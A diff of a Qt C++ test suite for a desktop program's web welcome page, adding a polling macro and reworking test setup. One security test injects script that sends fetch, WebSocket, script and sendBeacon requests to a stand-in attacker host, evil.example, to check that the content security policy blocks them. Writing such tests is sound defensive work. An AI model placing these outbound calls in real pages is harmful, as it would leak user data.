@@ -16,6 +16,12 @@
 
 #include <csignal>
 
+// Looks again at once: what it looks at asks the page, which is the wait. QTRY_COMPARE sleeps in between.
+#define SOON(actual, expected) \
+    for (const QDeadlineTimer end(10000); !((actual) == (expected)) && !end.hasExpired();) \
+        QCoreApplication::processEvents(); \
+    QCOMPARE(actual, expected)
+
 namespace {
 
 const QString s_unicode = QStringLiteral("Über 海藻 Ламинария");
@@ -91,19 +97,11 @@ private slots:
             QFile::remove(strExamples + pName);
             QVERIFY(QFile::copy(KELPA_EXAMPLES + QString(pName), strExamples + pName));
         }
-        const TestProgram program;
+        WelcomeTest::init();
         ExtensionSystem::PluginManager::settings()->setValue("Kelpa/Language", "de_DE");
         ILanguageManager::getInstance().initialize();
         ILanguageManager::getInstance().setSettings(nullptr);
-    }
-
-    void init()
-    {
-        WelcomeTest::init();
-        m_pDesktop = std::make_unique<Desktop>();
         m_strFirst = m_pProgram->write("a b.kelpa");
-        for (const QString &strFile : {QString("/p/c.kelpa"), QString("/gone/b.kelpa"), m_strFirst})
-            addRecent(strFile);
         m_pWindow->resize(1100, 800);
         m_pWindow->show();
         m_pWindow->activateWindow();
@@ -111,19 +109,43 @@ private slots:
         QTRY_VERIFY_WITH_TIMEOUT(view() && view()->title() == WelcomePage::title(), 60000);
     }
 
+    // To start the engine takes long: each case has the same one, and the page anew.
+    void init()
+    {
+        m_pDesktop = std::make_unique<Desktop>();
+        for (const QString &strFile : recent())
+            IRecentFilesManager::getInstance()->removeFile(strFile);
+        for (const QString &strFile : {QString("/p/c.kelpa"), QString("/gone/b.kelpa"), m_strFirst})
+            addRecent(strFile);
+        m_pWindow->activateWindow();
+        m_pWidget->setFocus();
+        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
+        js("window.isOld = true");
+        view()->reload();
+        SOON(js("window.isOld ? 'old' : document.querySelectorAll('nav a, #recent strong').length"), 5 + 3);
+    }
+
     void cleanup()
     {
+        for (const auto &pDocument : std::exchange(m_pFactory->documents, {})) {
+            if (pDocument)
+                emit pDocument->requestClosing(false);
+        }
         delete m_pFactory->pDialog;
+        m_pWidget->setPalette({});
+        m_pWidget->unsetLayoutDirection();
+        m_pWindow->setScreen(screenOf(96));
         m_pDesktop.reset();
-        WelcomeTest::cleanup();
     }
+
+    void cleanupTestCase() { WelcomeTest::cleanup(); }
 
     void listOfThePageMenuAndSettingsAgree()
     {
         QCOMPARE(names(), QStringList({"a b", "b", "c"}));
         QCOMPARE(js("document.querySelector('#recent li:nth-child(2) span').textContent"), "/gone");
         click("#recent li:nth-child(2) .small:last-child");
-        QTRY_COMPARE(names(), QStringList({"a b", "c"}));
+        SOON(names(), QStringList({"a b", "c"}));
         QCOMPARE(recent(), QStringList({m_strFirst, "/p/c.kelpa"}));
         QCOMPARE(
             ActionManager::getAction("File.Recent_Projects.Project_2")->getAction()->text(), "2. /p/c.kelpa");
@@ -135,10 +157,10 @@ private slots:
             addRecent("/x/" + strName + ".kelpa");
         addRecent("C:\\Projects\\w.KELPAPACK");
         m_pWindow->setVisibleWelcomeWidget(true);
-        QTRY_COMPARE(names(), QStringList({"w", s_unicode, s_hostile, "a b", "b", "c"}));
+        SOON(names(), QStringList({"w", s_unicode, s_hostile, "a b", "b", "c"}));
         QCOMPARE(count("#recent img"), 0);
         click("#recent li:nth-child(3) .small:last-child");
-        QTRY_COMPARE(names(), QStringList({"w", s_unicode, "a b", "b", "c"}));
+        SOON(names(), QStringList({"w", s_unicode, "a b", "b", "c"}));
         QCOMPARE(status(), s_hostile + " was removed from the list.");
         QCOMPARE(view()->title(), WelcomePage::title());
     }
@@ -146,21 +168,21 @@ private slots:
     void projectOpensAndThePageComesBackUpToDate()
     {
         click("#recent li:first-child .open");
-        QTRY_COMPARE(m_pFactory->documents.size(), 1);
+        SOON(m_pFactory->documents.size(), 1);
         QCOMPARE(m_pFactory->documents.first()->getFileName(), m_strFirst);
         QVERIFY(m_pWidget->isHidden());
         addRecent("/p/later.kelpa");
         emit m_pFactory->documents.first()->requestClosing(false);
         QVERIFY(!m_pWidget->isHidden());
-        QTRY_COMPARE(names(), QStringList({"later", "a b", "b", "c"}));
+        SOON(names(), QStringList({"later", "a b", "b", "c"}));
     }
 
     void exampleOpens()
     {
         QCOMPARE(count("#examples li"), 2);
-        QTRY_VERIFY(js("[...document.images].every(i => i.complete && i.naturalWidth > 0)").toBool());
+        SOON(js("[...document.images].every(i => i.complete && i.naturalWidth > 0)").toBool(), true);
         click("#examples li:first-child button");
-        QTRY_COMPARE(m_pFactory->documents.size(), 1);
+        SOON(m_pFactory->documents.size(), 1);
         QCOMPARE(m_pFactory->documents.first()->getFileName(),
             ICore::resourcePath() + "/examples/landscape.kelpa");
     }
@@ -180,63 +202,61 @@ private slots:
             }
         };
         click(1000);
-        QTRY_COMPARE(names(), QStringList({"b", "c"}));
+        SOON(names(), QStringList({"b", "c"}));
         click(1200);
         click(3000);
-        QTRY_COMPARE(names(), QStringList("c"));
+        SOON(names(), QStringList("c"));
     }
 
     void missingProjectMayLeaveTheList()
     {
         BoxAnswers boxes({QMessageBox::Yes});
         click("#recent li:nth-child(2) .small");
-        QTRY_COMPARE(names(), QStringList({"a b", "c"}));
+        SOON(names(), QStringList({"a b", "c"}));
         QCOMPARE(boxes.boxes.size(), 1);
         click("#recent li:first-child .small");
-        QTRY_COMPARE(m_pDesktop->opened, QStringList("file:///" + m_pProgram->folder.path()));
+        SOON(m_pDesktop->opened, QStringList("file:///" + m_pProgram->folder.path()));
     }
 
     void linksGoToTheBrowser()
     {
-        QTRY_COMPARE(count("nav a"), 5);
+        SOON(count("nav a"), 5);
         click("nav a:nth-child(2)");
-        QTRY_COMPARE(m_pDesktop->opened, QStringList("https://community.kelpa.example/"));
+        SOON(m_pDesktop->opened, QStringList("https://community.kelpa.example/"));
         QCOMPARE(view()->url(), WelcomePage::url());
     }
 
     // Tab and Return alone, from the window to a new project.
     void keyboardReachesEverything()
     {
-        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
         const int nStops = count("button, a");
         QSet<int> seen;
         for (int i = 0; i < nStops; ++i) {
             press(Qt::Key_Tab);
-            QTRY_VERIFY2(!seen.contains(focused()) && focused() >= 0, qPrintable(QString::number(i)));
+            SOON(!seen.contains(focused()) && focused() >= 0, true);
             seen.insert(focused());
         }
         js("document.querySelector('[data-command=newProject]').focus()");
         m_pFactory->nDialogResult = QDialog::Accepted;
         m_pFactory->strNewPath = m_pProgram->filePath("new.kelpa");
         press(Qt::Key_Return);
-        QTRY_COMPARE(m_pFactory->documents.size(), 1);
+        SOON(m_pFactory->documents.size(), 1);
         QCOMPARE(m_pFactory->documents.first()->getFileName(), m_pFactory->strNewPath);
     }
 
     void keysInTheList()
     {
-        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
         js("document.querySelector('#recent .open').focus()");
         const QString strFocused = "document.activeElement.title";
         press(Qt::Key_Down);
-        QTRY_COMPARE(js(strFocused), "/gone/b.kelpa");
+        SOON(js(strFocused), "/gone/b.kelpa");
         press(Qt::Key_Delete);
-        QTRY_COMPARE(names(), QStringList({"a b", "c"}));
+        SOON(names(), QStringList({"a b", "c"}));
         QCOMPARE(js(strFocused), "/p/c.kelpa");
         press(Qt::Key_Delete);
-        QTRY_COMPARE(js(strFocused), m_strFirst);
+        SOON(js(strFocused), m_strFirst);
         press(Qt::Key_Delete);
-        QTRY_COMPARE(names(), QStringList());
+        SOON(names(), QStringList());
         QCOMPARE(js("document.activeElement.dataset.command"), "newProject");
         QVERIFY(js("document.getElementById('no-recent').checkVisibility?.() ?? "
                    "!document.getElementById('no-recent').hidden")
@@ -245,17 +265,16 @@ private slots:
 
     void focusStaysOnTheProject()
     {
-        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
         js("document.querySelector('#recent li:nth-child(2) .open').focus()");
         addRecent("/p/later.kelpa");
         emit m_pWindow->getMdiArea()->resetRecentFiles();
-        QTRY_COMPARE(names(), QStringList({"later", "a b", "b", "c"}));
+        SOON(names(), QStringList({"later", "a b", "b", "c"}));
         QCOMPARE(js("document.activeElement.title"), "/gone/b.kelpa");
         for (const Qt::KeyboardModifier modifier : {Qt::ControlModifier, Qt::AltModifier, Qt::MetaModifier})
             QTest::keyClick(QApplication::focusWidget(), Qt::Key_Delete, modifier);
         press(Qt::Key_Down);
         press(Qt::Key_Delete);
-        QTRY_VERIFY(!names().contains("c"));
+        SOON(names().contains("c"), false);
         QCOMPARE(names(), QStringList({"later", "a b", "b"}));
         QCOMPARE(js("document.activeElement.title"), "/gone/b.kelpa");
     }
@@ -271,12 +290,12 @@ private slots:
     void focusStaysWhenTheColoursChange()
     {
         QFETCH(const QString, selector);
-        QTRY_COMPARE(count("nav a"), 5);
+        SOON(count("nav a"), 5);
         js("window.old = document.querySelector('" + selector + "'); old.focus()");
         QPalette palette = m_pWidget->palette();
         palette.setColor(QPalette::Window, QColor("#102030"));
         m_pWidget->setPalette(palette);
-        QTRY_VERIFY(!js("old.isConnected").toBool());
+        SOON(js("old.isConnected"), false);
         QVERIFY(js("document.activeElement === document.querySelector('" + selector + "')").toBool());
     }
 
@@ -301,16 +320,16 @@ private slots:
 
     void pageSpeaksTheLanguageOfTheProgram()
     {
-        QTRY_COMPARE(js("document.documentElement.lang"), "de-DE");
-        QTRY_COMPARE(js("document.getElementById('version').textContent"), "Version 3.1.4");
+        SOON(js("document.documentElement.lang"), "de-DE");
+        SOON(js("document.getElementById('version').textContent"), "Version 3.1.4");
         const Brackets brackets;
         QEvent change(QEvent::LanguageChange);
         QCoreApplication::sendEvent(m_pWidget, &change);
         const QString strTexts =
             "[...document.querySelectorAll('h2, p, nav a, .action > span, .example > *')]"
             ".map(e => e.textContent).filter(t => t && !/^\\[.*\\]$/.test(t)).join()";
-        QTRY_COMPARE(js("document.querySelector('h2').textContent"), "[Recent Projects]");
-        QTRY_COMPARE(js(strTexts), "");
+        SOON(js("document.querySelector('h2').textContent"), "[Recent Projects]");
+        SOON(js(strTexts), "");
         QVERIFY(
             js("[...document.querySelectorAll('[aria-label]')].every(e => /^\\[.*\\]$/.test(e.ariaLabel))")
                 .toBool());
@@ -319,7 +338,7 @@ private slots:
     void pathsReadFromLeftToRightAtTheEdgeWhereTheirLineBegins()
     {
         m_pWidget->setLayoutDirection(Qt::RightToLeft);
-        QTRY_COMPARE(js("document.documentElement.dir"), "rtl");
+        SOON(js("document.documentElement.dir"), "rtl");
         js("const at = i => { const r = document.createRange(); const t = "
            "document.querySelector('#recent li:nth-child(2) span').firstChild; r.setStart(t, i); "
            "r.setEnd(t, i + 1); return r.getBoundingClientRect(); }");
@@ -335,11 +354,11 @@ private slots:
         palette.setColor(QPalette::Window, QColor("#102030"));
         palette.setColor(QPalette::WindowText, QColor("#f0f0f0"));
         m_pWidget->setPalette(palette);
-        QTRY_COMPARE(js("getComputedStyle(document.body).backgroundColor"), "rgb(16, 32, 48)");
+        SOON(js("getComputedStyle(document.body).backgroundColor"), "rgb(16, 32, 48)");
         QCOMPARE(js("getComputedStyle(document.body).color"), "rgb(240, 240, 240)");
         QCOMPARE(view()->zoomFactor(), 1.0);
         m_pWindow->setScreen(screenOf(144));
-        QTRY_COMPARE(view()->zoomFactor(), 1.5);
+        SOON(view()->zoomFactor(), 1.5);
         js("addEventListener('wheel', e => { document.title = e.defaultPrevented ? 'same size' : 'zoom'; })");
         QWheelEvent wheel(QPointF(300, 300), view()->mapToGlobal(QPointF(300, 300)), {}, {0, 120}, {},
             Qt::ControlModifier, Qt::NoScrollPhase, false);
@@ -348,8 +367,8 @@ private slots:
                 view()->focusProxy(), &wheel); // one is lost while the page lays itself out
             return view()->title();
         };
-        QTRY_COMPARE(titleAfterWheel(), "same size");
-        QTRY_COMPARE(qRound(js("window.innerWidth").toInt() * 1.5 / 10), qRound(view()->width() / 10.0));
+        SOON(titleAfterWheel(), "same size");
+        SOON(qRound(js("window.innerWidth").toInt() * 1.5 / 10), qRound(view()->width() / 10.0));
         QCOMPARE(names(), QStringList({"a b", "b", "c"}));
     }
 
@@ -371,12 +390,12 @@ private slots:
                 {QPalette::Highlight, "selection"}, {QPalette::HighlightedText, "onSelection"}})
             palette.setColor(role, QColor(colours.value(QLatin1String(pName)).toString()));
         m_pWidget->setPalette(palette);
-        QTRY_COMPARE(js("getComputedStyle(document.querySelector('header')).backgroundColor"),
+        SOON(js("getComputedStyle(document.querySelector('header')).backgroundColor"),
             "rgb(" + rgb(palette.color(QPalette::Highlight)) + ")");
         const QVariantList corner =
             js("(r => [r.x + 20, r.y + 5])(document.querySelector('header').getBoundingClientRect())")
                 .toList();
-        QTRY_COMPARE(m_pWidget->grab().toImage().pixelColor(corner.at(0).toInt(), corner.at(1).toInt()),
+        SOON(m_pWidget->grab().toImage().pixelColor(corner.at(0).toInt(), corner.at(1).toInt()),
             palette.color(QPalette::Highlight));
         const QVariantList ratios = js(s_headerContrasts).toList();
         QCOMPARE(ratios.size(), 6);
@@ -391,7 +410,7 @@ private slots:
         view()->reload();
         const QString strServer = WelcomePage::data(*m_pWidget).value("server").toString();
         QTRY_VERIFY(allowed(requests).contains(strServer));
-        QTRY_COMPARE(names(), QStringList({"a b", "b", "c"}));
+        SOON(names(), QStringList({"a b", "b", "c"}));
         js("window.refused = []; document.addEventListener('securitypolicyviolation', "
            "event => refused.push(event.blockedURI));"
            "fetch('https://evil.example/fetch').catch(() => 0);"
@@ -400,7 +419,7 @@ private slots:
            "'https://evil.example/script'}));"
            "try { new WebSocket('ws://evil.example/socket') } catch (e) {}"
            "navigator.sendBeacon('https://evil.example/beacon', 'x'); 0");
-        QTRY_COMPARE(
+        SOON(
             js("refused.map(url => url.split('/').pop()).sort().join()"), "beacon,fetch,image,script,socket");
         const QSignalSpy loads(view()->page(), &QWebEnginePage::loadFinished);
         const QSignalSpy failures(pWebView, &WebView::loadFinished);
@@ -418,7 +437,7 @@ private slots:
     // At first without what the page calls there.
     void pageFindsTheProgramAgain()
     {
-        QTRY_COMPARE(count("nav a"), 5);
+        SOON(count("nav a"), 5);
         QWebChannel *pChannel = m_pWindow->getChannel();
         QObject *pObject = pChannel->registeredObjects().value("kpwelcome");
         QVERIFY(pObject);
@@ -427,12 +446,12 @@ private slots:
         breakConnections();
         const char *pEnabled = ":is(button, a):not([aria-disabled=true])";
         const QString strLost = "The page has lost the program and is trying to reach it again.";
-        QTRY_COMPARE(count(pEnabled), 0);
+        SOON(count(pEnabled), 0);
         QCOMPARE(status(), strLost);
         js("document.getElementById('status').textContent = ''");
-        QTRY_COMPARE(status(), strLost);
+        SOON(status(), strLost);
         pChannel->registerObject("kpwelcome", pObject);
-        QTRY_COMPARE_WITH_TIMEOUT(names(), QStringList({"meanwhile", "a b", "b", "c"}), 10000);
+        SOON(names(), QStringList({"meanwhile", "a b", "b", "c"}));
         QCOMPARE(status(), "The page has reached the program again.");
         QVERIFY(count(pEnabled) > 0);
     }
@@ -441,15 +460,17 @@ private slots:
     {
         js("window.starts = []; const Real = WebSocket; WebSocket = function(url) { "
            "window.starts.push(performance.now()); return new Real(url); }");
+        const quint16 nPort = m_pWindow->getServer()->serverPort();
         m_pWindow->getServer()->close();
         breakConnections();
-        QTRY_COMPARE(js("document.querySelector('.action').getAttribute('aria-disabled')"), "true");
+        SOON(js("document.querySelector('.action').getAttribute('aria-disabled')"), "true");
         click("[data-command=newProject]");
-        QTRY_VERIFY(js("window.starts.length").toInt() >= 3);
+        SOON(js("window.starts.length").toInt() >= 3, true);
         QVERIFY(js("starts[2] - starts[1] > 1.5 * (starts[1] - starts[0])").toBool()
             || js("starts[2] - starts[1] >= 450").toBool());
         QVERIFY(m_pFactory->documents.isEmpty());
         QVERIFY(status().contains("lost"));
+        QVERIFY(m_pWindow->getServer()->listen(QHostAddress::LocalHost, nPort));
     }
 
     void pageThatDiesIsLoadedOnceMoreThenListedWithout()
@@ -458,7 +479,7 @@ private slots:
         killPage();
         QSignalSpy titles(m_pWidget->findChild<WebView *>(), &WebView::titleChanged);
         QTRY_VERIFY_WITH_TIMEOUT(titles.contains(QVariantList {WelcomePage::title()}), 30000);
-        QTRY_COMPARE(names(), QStringList({"a b", "b", "c"}));
+        SOON(names(), QStringList({"a b", "b", "c"}));
         QTest::ignoreMessage(
             QtWarningMsg, "The home page failed again; the recent projects are listed without it.");
         killPage();
@@ -472,9 +493,17 @@ private:
 
     QVariant js(const QString &strCode) const
     {
-        const auto result = std::make_shared<std::optional<QVariant>>();
-        view()->page()->runJavaScript(strCode, [result](const QVariant &value) { *result = value; });
-        return QTest::qWaitFor([&] { return result->has_value(); }) ? **result : QVariant("no answer");
+        QEventLoop loop;
+        QVariant result("no answer");
+        QTimer::singleShot(5000, &loop, &QEventLoop::quit);
+        view()->page()->runJavaScript(strCode, [&result, pLoop = QPointer(&loop)](const QVariant &value) {
+            if (!pLoop)
+                return;
+            result = value;
+            pLoop->quit();
+        });
+        loop.exec();
+        return result;
     }
 
     [[nodiscard]] QStringList names() const
